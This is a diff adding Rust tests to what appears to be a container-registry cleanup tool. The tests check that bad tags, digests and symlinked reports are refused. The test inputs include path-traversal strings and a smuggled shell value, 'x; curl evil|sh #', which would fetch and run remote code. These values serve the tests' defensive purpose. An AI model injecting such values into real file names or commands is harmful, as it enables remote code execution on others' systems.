@@ -112,3 +112,32 @@ fn nothing_of_a_report_tells_where_the_token_goes() {
     assert_eq!((ended.code, elsewhere.requests().len()), (Some(1), 0), "{}", ended.log);
     assert!(!ended.log.contains("ghp_of_somebody_else") && !ended.summary.contains("ghp_of_somebody_else"));
 }
+
+#[test]
+fn what_is_no_digest_or_no_tag_becomes_no_part_of_an_address_or_a_command() {
+    for tag in ["../../victim/manifests/x", "x?y=z", "a b", "x; curl evil|sh #", "", "-x", "é", "x/y"] {
+        refused(|report| version(report, "pr-1")["tags"] = json!([tag]), "restore", "is no tag");
+    }
+    refused(|report| version(report, "pr-1")["name"] = json!("sha256:../x"), "delete", "is no digest");
+}
+
+#[test]
+fn a_package_that_goes_whole_has_no_version_that_stays() {
+    refused(|report| report["packages"][0]["decision"] = json!("delete"), "delete", "the whole package goes");
+}
+
+#[test]
+fn a_link_leads_to_no_report_outside_of_the_workspace() {
+    let simulator = Simulator::start(world(images(IMAGES)));
+    let plan = run(&simulator, &[("tags", "pr-.*"), ("dry-run", "true")]).report();
+    let outside = tempfile::tempdir().expect("a folder");
+    fs::write(outside.path().join("plan.json"), plan.to_string()).expect("a report");
+    for (link, path) in [("plan.json", "plan.json"), ("folder", "folder/plan.json")] {
+        let step = Step::new(simulator.url()).input("from-report", path);
+        let target = if link == path { outside.path().join("plan.json") } else { outside.path().to_owned() };
+        std::os::unix::fs::symlink(target, step.workspace().join(link)).expect("a link");
+        let ended = step.run();
+        assert_eq!((ended.code, ended.output("status")), (Some(1), "failed"), "{}", ended.log);
+        assert!(ended.log.contains("outside of the workspace") && simulator.changes().is_empty(), "{}", ended.log);
+    }
+}
